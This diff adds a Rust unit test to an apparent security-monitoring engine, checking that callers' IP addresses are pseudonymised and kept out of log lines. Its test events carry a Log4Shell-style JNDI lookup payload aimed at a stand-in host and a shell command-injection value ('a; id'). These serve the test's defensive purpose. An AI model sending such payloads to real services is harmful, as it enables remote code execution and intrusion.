@@ -469,3 +469,43 @@ fn a_credential_that_is_sent_is_told_of_and_excluded_by_its_host() {
     assert_eq!(kinds(&outcome), [("detection", "credential-sent")]);
     assert!(outcome.blocked.is_some());
 }
+
+#[test]
+fn a_caller_is_the_same_number_in_one_environment_and_no_address() {
+    let event = |address: &str, q: &str| {
+        let context =
+            format!(r#"{{"http": {{"method": "GET", "sourceIp": "{address}"}}, "apiId": "x"}}"#);
+        format!(r#"{{"version": "2.0", "rawPath": "/", "requestContext": {context}, "q": "{q}"}}"#)
+    };
+    let caller = |engine: &mut Engine, address: &str| {
+        let (_, entries) = engine.begin(0, "r", event(address, "${jndi:ldap://x/a}").as_bytes());
+        engine.end(0);
+        let line =
+            String::from_utf8(entries[0].line(&hauberk_core::record::Origin::default())).unwrap();
+        assert!(!line.contains(address), "{line}");
+        entries[0].body.caller.clone()
+    };
+    let (mut one, mut other) = (engine(Mode::Detect), engine(Mode::Detect));
+    let first = caller(&mut one, "203.0.113.7").unwrap();
+    assert!(
+        first.len() == 12 && first.bytes().all(|byte| byte.is_ascii_hexdigit()),
+        "{first}"
+    );
+    assert_eq!(caller(&mut one, "203.0.113.7").as_ref(), Some(&first));
+    assert_ne!(caller(&mut one, "203.0.113.8").as_ref(), Some(&first));
+    assert_ne!(caller(&mut other, "203.0.113.7").as_ref(), Some(&first));
+    // At a sink, and where the event tells of nobody.
+    one.begin(0, "r", event("203.0.113.7", "a; id").as_bytes());
+    let call = Act {
+        activities: vec![],
+        resource: Resource::Shell(b"thumb a; id"),
+        arguments: vec![],
+    };
+    assert_eq!(
+        one.admit(0, &call).entries[0].body.caller.as_ref(),
+        Some(&first)
+    );
+    one.end(0);
+    let (_, entries) = one.begin(0, "r", br#"{"q": "${jndi:ldap://x/a}"}"#);
+    assert_eq!(entries[0].body.caller, None);
+}
